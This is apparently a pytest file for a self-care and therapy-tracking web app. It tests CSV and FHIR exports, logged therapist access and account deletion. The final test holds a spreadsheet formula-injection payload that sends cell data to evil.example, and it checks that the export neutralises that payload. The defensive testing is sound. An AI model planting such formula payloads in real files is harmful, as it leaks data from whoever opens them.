"""The client's data leaves with them: CSV, FHIR, and deleting the account."""

import json

import pytest
from fhir.resources.R4B.bundle import Bundle

from selfcare.extensions import db
from selfcare.models import AccessLogEntry, Appointment, Share, SignIn, User

from .helpers import (
    PASSWORD,
    count_rows,
    fetch_all,
    log_in,
    logged_in_therapist,
    make_user,
    new_invite_code,
    read_zip,
    redeem,
    submit,
    tap_routine,
)

OWNED_TABLES = [
    "checkins",
    "pain_scores",
    "routines",
    "routine_items",
    "routine_logs",
    "routine_log_items",
    "measurements",
    "appointments",
    "invites",
    "shares",
    "api_tokens",
    "tracked_regions",
]


def fill_history(client):
    submit(
        client,
        "/today",
        {"pain_neck": "4", "pain_lower_back": "6", "note": "Stiff, 5° less?", "day_kind": "flare"},
    )
    submit(client, "/checkins/2026-01-15", {"pain_neck": "7"})
    submit(client, "/measurements/new/cervical_rotation", {"left": "62.5"})
    submit(client, "/measurements/new/fingertip_to_floor", {"value": "-3"})
    page = client.get("/routines/new").text
    import re

    ids = re.findall(r'name="exercise_ids"[^>]*value="(\d+)"', page)[:2]
    submit(client, "/routines/new", {"name": "Évening routine", "exercise_ids": ids})
    routine_id = re.search(r'name="done" value="(\d+):', client.get("/today").text).group(1)
    tap_routine(client, int(routine_id))
    submit(client, "/appointments", {"day": "2026-01-10", "note": "First visit"}, page="/trends")


def test_csv_export_has_every_kind_with_units_and_dates(app, logged_in_client):
    fill_history(logged_in_client)
    response = logged_in_client.get("/account/export.zip")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    assert "attachment" in response.headers["Content-Disposition"]
    files = read_zip(response.data)
    assert set(files) == {
        "checkins.csv",
        "pain_scores.csv",
        "routines.csv",
        "routine_logs.csv",
        "measurements.csv",
        "appointments.csv",
        "psfs.csv",
        "figures.csv",
    }
    assert [row["date"] for row in files["checkins.csv"]][0] == "2026-01-15"
    assert (
        files["checkins.csv"][1]["note"] == "Stiff, 5° less?"
        and files["checkins.csv"][1]["day type"] == "flare"
    )
    pain_column = "pain (0-10, 0 = no pain, 10 = worst pain imaginable)"
    assert sorted(row[pain_column] for row in files["pain_scores.csv"]) == ["4", "6", "7"]
    rotation = next(
        row for row in files["measurements.csv"] if row["movement"] == "cervical_rotation"
    )
    assert (rotation["value (deg)"], rotation["value (cm)"], rotation["side"]) == (
        "62.5",
        "",
        "left",
    )
    reach = next(
        row for row in files["measurements.csv"] if row["movement"] == "fingertip_to_floor"
    )
    assert (reach["value (deg)"], reach["value (cm)"]) == ("", "-3.0")
    assert {row["routine"] for row in files["routines.csv"]} == {"Évening routine"}
    assert len(files["routine_logs.csv"]) == 2 and files["routine_logs.csv"][0]["done"] == "yes"
    assert files["appointments.csv"] == [{"date": "2026-01-10", "note": "First visit"}]


def test_fhir_export_is_a_valid_r4_bundle(app, logged_in_client):
    fill_history(logged_in_client)
    response = logged_in_client.get("/account/export.fhir.json")
    assert response.status_code == 200 and response.mimetype == "application/fhir+json"
    document = json.loads(response.data)
    bundle = Bundle.model_validate(document)  # raises on any structural error
    assert bundle.type == "collection"
    resources = [entry.resource for entry in bundle.entry]
    kinds = [resource.get_resource_type() for resource in resources]
    assert kinds.count("Patient") == 1 and kinds.count("Procedure") == 1
    pain = [
        r
        for r in resources
        if r.get_resource_type() == "Observation" and r.code.coding[0].code == "72514-3"
    ]
    assert len(pain) == 3
    neck = next(r for r in pain if r.bodySite.coding[0].code == "45048000")
    assert (
        neck.valueQuantity.code == "{score}"
        and neck.valueQuantity.system == "http://unitsofmeasure.org"
    )
    rom = [
        r
        for r in resources
        if r.get_resource_type() == "Observation" and r.category[0].coding[0].code == "exam"
    ]
    rotation = next(r for r in rom if r.valueQuantity.code == "deg")
    assert float(rotation.valueQuantity.value) == 62.5
    assert rotation.component[0].valueCodeableConcept.coding[0].code == "7771000"  # left
    urls = [entry.fullUrl for entry in bundle.entry]
    assert len(set(urls)) == len(urls) and all(url.startswith("urn:uuid:") for url in urls)


def test_therapist_can_download_a_sharing_clients_exports_and_it_is_logged(
    app, logged_in_client, client_user
):
    fill_history(logged_in_client)
    browser, _ = logged_in_therapist(app)
    redeem(browser, new_invite_code(logged_in_client))
    assert browser.get(f"/therapist/clients/{client_user.id}/export.zip").status_code == 200
    assert browser.get(f"/therapist/clients/{client_user.id}/export.fhir.json").status_code == 200
    assert [e.purpose for e in fetch_all(app, AccessLogEntry)] == ["export_csv", "export_fhir"]
    [share] = fetch_all(app, Share)
    submit(logged_in_client, f"/sharing/{share.id}/revoke", page="/sharing")
    assert browser.get(f"/therapist/clients/{client_user.id}/export.zip").status_code == 404


def table_counts(app) -> dict[str, int]:
    with app.app_context():
        return {
            t: db.session.scalar(db.text(f"SELECT count(*) FROM {t}"))  # noqa: S608 (fixed table names)
            for t in OWNED_TABLES + ["users", "access_log"]
        }


def test_client_deletes_their_account_and_every_row_goes(app, logged_in_client, client_user):
    other = app.test_client()
    bystander = make_user(app, name="Bystander")
    log_in(other, bystander)
    fill_history(other)
    before_alone = table_counts(app)
    fill_history(logged_in_client)
    submit(logged_in_client, "/account/tokens", {"name": "sheet"})
    browser, _ = logged_in_therapist(app)
    redeem(browser, new_invite_code(logged_in_client))
    browser.get(f"/therapist/clients/{client_user.id}")
    wrong = submit(logged_in_client, "/account/delete", {"password": "not my password"})
    assert wrong.status_code == 422 and count_rows(app, User, id=client_user.id) == 1
    response = submit(logged_in_client, "/account/delete", {"password": PASSWORD})
    assert response.status_code == 302
    after = table_counts(app)
    assert after["users"] == before_alone["users"]  # the client went, the therapist came
    for table in OWNED_TABLES + ["access_log"]:
        assert after[table] == before_alone[table], table
    assert logged_in_client.get("/today").status_code == 302  # logged out
    assert count_rows(app, SignIn, user_id=client_user.id) == 0
    assert browser.get(f"/therapist/clients/{client_user.id}").status_code == 404


def test_therapist_deletion_ends_shares_and_keeps_client_data(app, logged_in_client, client_user):
    fill_history(logged_in_client)
    browser, therapist = logged_in_therapist(app)
    redeem(browser, new_invite_code(logged_in_client))
    submit(
        browser,
        f"/therapist/clients/{client_user.id}/appointments",
        {"day": "2026-02-01", "note": "Next: thoracic"},
        page=f"/therapist/clients/{client_user.id}",
    )
    before = table_counts(app)
    assert submit(browser, "/account/delete", {"password": PASSWORD}).status_code == 302
    after = table_counts(app)
    assert after["shares"] == before["shares"] - 1
    for table in (
        "checkins",
        "pain_scores",
        "routines",
        "routine_logs",
        "measurements",
        "appointments",
        "access_log",
    ):
        assert after[table] == before[table], table
    note = fetch_all(app, Appointment, note="Next: thoracic")[0]
    assert note.created_by_id is None  # kept for the client, no longer linked to the account
    assert "Sharing" in logged_in_client.get("/sharing").text
    with app.app_context():
        assert db.session.get(User, therapist.id) is None


@pytest.mark.parametrize("path", ["/account/export.zip", "/account/export.fhir.json"])
def test_exports_are_for_clients_only(app, client, therapist_user, path):
    log_in(client, therapist_user)
    assert client.get(path).status_code == 403


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(app, logged_in_client, start):
    note = f'{start}HYPERLINK("http://evil.example/?"&A1, "Click")'
    submit(logged_in_client, "/today", {"pain_neck": "3", "note": note})
    files = read_zip(logged_in_client.get("/account/export.zip").data)
    [row] = files["checkins.csv"]
    assert row["note"] == "'" + note  # shown as text, never run
    assert (
        files["pain_scores.csv"][0]["pain (0-10, 0 = no pain, 10 = worst pain imaginable)"] == "3"
    )
